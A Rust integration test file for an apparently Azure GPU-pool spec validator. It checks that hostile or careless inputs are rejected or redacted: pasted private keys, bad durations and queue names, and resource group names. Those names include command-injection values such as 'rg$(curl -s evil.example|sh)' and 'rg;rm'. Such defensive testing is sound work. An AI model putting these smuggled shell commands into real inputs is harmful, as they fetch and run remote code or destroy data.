//! Hostile and careless input, second round (issue 26), through the real binary: the gaps between
//! `validate` and the stages after it, and what the human output echoes.

use std::path::PathBuf;

use assert_cmd::Command;

fn gpuform() -> Command {
    let mut c = Command::cargo_bin("gpuform").unwrap();
    c.env("NO_COLOR", "1").env_remove("CLICOLOR_FORCE");
    c
}

fn tmp(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("gpuform-h2-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn example_value(file: &str) -> serde_json::Value {
    let text = std::fs::read_to_string(file).unwrap();
    gpuform::spec::yaml::parse(&text).unwrap().value
}

#[test]
fn validate_dir_checks_json_style_specs() {
    // a spec written as JSON (valid YAML, which render reads): min 5 > max 1, SSH open to the world
    let mut v = example_value("examples/llm-finetune-a100.yaml");
    v["spec"]["capacity"]["min"] = 5.into();
    v["spec"]["capacity"]["max"] = 1.into();
    let dir = tmp("json-spec");
    std::fs::write(
        dir.join("pool.yaml"),
        serde_json::to_string_pretty(&v).unwrap(),
    )
    .unwrap();
    // and a pipeline file, which is still skipped
    std::fs::write(
        dir.join("ci.yml"),
        "trigger: [main]\nsteps: [{script: make}]\n",
    )
    .unwrap();
    let out = gpuform()
        .args(["validate", dir.to_str().unwrap()])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stdout}\n{stderr}");
    let all = format!("{stdout}{stderr}");
    assert!(all.contains("validated 1 spec: 1 error"), "{all}");
    assert!(all.contains("(1 YAML file skipped: not specs)"), "{all}");
    assert!(all.contains("skipped") && all.contains("ci.yml"), "{all}");
    assert!(all.contains("error[capacity-order]"), "{all}");
}

#[test]
fn a_private_key_pasted_as_ssh_public_key_is_not_printed() {
    let body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
    let text = std::fs::read_to_string("examples/llm-finetune-a100.yaml").unwrap();
    let line = text
        .lines()
        .find(|l| l.trim_start().starts_with("sshPublicKey:"))
        .unwrap();
    let dir = tmp("private-key");
    for (name, value) in [
        (
            "quoted.yaml",
            format!(
                "sshPublicKey: \"-----BEGIN OPENSSH PRIVATE KEY-----\\n{body}\\n-----END OPENSSH PRIVATE KEY-----\\n\""
            ),
        ),
        (
            "block.yaml",
            format!(
                "sshPublicKey: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      {body}\n      -----END OPENSSH PRIVATE KEY-----"
            ),
        ),
    ] {
        let spec = text.replace(line.trim_start(), &value);
        let f = dir.join(name);
        std::fs::write(&f, spec).unwrap();
        for format in ["human", "json", "sarif"] {
            let out = gpuform()
                .args(["validate", f.to_str().unwrap(), "--format", format])
                .output()
                .unwrap();
            let all = format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            assert!(!out.status.success(), "{name} {format}: {all}");
            assert!(all.contains("private key"), "{name} {format}: {all}");
            assert!(
                !all.contains(&body[..16]),
                "{name} {format} prints the key: {all}"
            );
        }
    }
}

fn check_text(
    text: &str,
    dir: &std::path::Path,
    policy: &gpuform::spec::Policy,
) -> gpuform::spec::Checked {
    gpuform::check::check_source(
        text.to_string(),
        "t.yaml",
        dir.to_path_buf(),
        policy,
        gpuform::catalog::prices::PriceTable::embedded(),
    )
}

fn errors_of(c: &gpuform::spec::Checked, rule: &str) -> usize {
    c.diagnostics
        .iter()
        .filter(|d| d.rule == rule && d.is_error())
        .count()
}

const SHORTVIDEO: &str = include_str!("../examples/shortvideo-transcode.yaml");

#[test]
fn what_later_stages_refuse_is_a_validation_error() {
    let examples = std::path::Path::new("examples");
    let off = gpuform::spec::Policy::from_yaml("rules:\n  schedule-time: off\n").unwrap();
    // job durations simulate refuses
    for bad in ["P", "PT", "PT0M", "P367D", "P99999999999999999999D"] {
        let text = SHORTVIDEO.replacen(
            "  workload:\n",
            &format!("  workload:\n    jobDuration: \"{bad}\"\n"),
            1,
        );
        let c = check_text(&text, examples, &gpuform::spec::Policy::default());
        assert_eq!(
            errors_of(&c, "job-duration-invalid"),
            1,
            "{bad}: {:?}",
            c.diagnostics
        );
    }
    let ok = SHORTVIDEO.replacen("  workload:\n", "  workload:\n    jobDuration: PT2M\n", 1);
    assert_eq!(
        errors_of(
            &check_text(&ok, examples, &Default::default()),
            "job-duration-invalid"
        ),
        0
    );
    // Service Bus queue names Azure refuses
    for bad in [
        "\"jobs\\nx\"",
        "'jo\"bs'",
        "\"${QUEUE}\"",
        "\"jobs[0]\"",
        "\"a/b\"",
        "-jobs",
    ] {
        let text = SHORTVIDEO.replacen("queue: transcode-jobs", &format!("queue: {bad}"), 1);
        assert_ne!(text, SHORTVIDEO);
        let c = check_text(&text, examples, &gpuform::spec::Policy::default());
        assert_eq!(
            errors_of(&c, "queue-name-invalid"),
            1,
            "{bad}: {:?}",
            c.diagnostics
        );
    }
    // an unknown time zone stays an error when the policy turns schedule-time off
    let text = SHORTVIDEO.replacen("timeZone: China Standard Time", "timeZone: Z", 1);
    let c = check_text(&text, examples, &off);
    assert_eq!(errors_of(&c, "schedule-time"), 1, "{:?}", c.diagnostics);
    // a cloud-init file holding the collector's MIME boundary
    let dir = tmp("boundary");
    std::fs::write(
        dir.join("ci.yaml"),
        format!(
            "#!/bin/sh\necho '--{}'\n",
            gpuform::check::rules::MIME_BOUNDARY
        ),
    )
    .unwrap();
    let text = SHORTVIDEO.replacen(
        "cloudInit: ./cloud-init/transcode.yaml",
        "cloudInit: ./ci.yaml",
        1,
    );
    let c = check_text(&text, &dir, &gpuform::spec::Policy::default());
    assert!(
        c.diagnostics
            .iter()
            .any(|d| d.rule == "cloud-init" && d.message.contains("MIME boundary")),
        "{:?}",
        c.diagnostics
    );
}

#[test]
fn landing_zone_ids_are_checked_part_by_part_and_printed_commands_are_quoted() {
    let examples = std::path::Path::new("examples");
    let sub = "11111111-2222-3333-4444-555555555555";
    let with_ws = |rg: &str| {
        SHORTVIDEO.replacen(
            "  monitoring:\n",
            &format!("  monitoring:\n    existingWorkspace: \"/subscriptions/{sub}/resourceGroups/{rg}/providers/Microsoft.OperationalInsights/workspaces/law-platform\"\n"),
            1,
        )
    };
    for rg in ["rg$(curl -s evil.example|sh)", "rg`id`", "rg;rm", "rg."] {
        let text = with_ws(rg);
        assert!(text.contains("existingWorkspace"));
        let c = check_text(&text, examples, &Default::default());
        assert_eq!(
            errors_of(&c, "resource-id-invalid"),
            1,
            "{rg}: {:?}",
            c.diagnostics
        );
    }
    // a group name Azure allows but a shell does not take bare: quoted in the printed command
    let c = check_text(&with_ws("rg-(prod)"), examples, &Default::default());
    assert_eq!(
        errors_of(&c, "resource-id-invalid"),
        0,
        "{:?}",
        c.diagnostics
    );
    let prereq = c
        .diagnostics
        .iter()
        .find(|d| d.rule == "shared-services-prerequisite" && d.message.contains("table create"))
        .expect("the table prerequisite");
    assert!(
        prereq.message.contains("--resource-group 'rg-(prod)'"),
        "{}",
        prereq.message
    );
    assert!(
        prereq.message.contains(&format!("--subscription {sub}")),
        "{}",
        prereq.message
    );
}
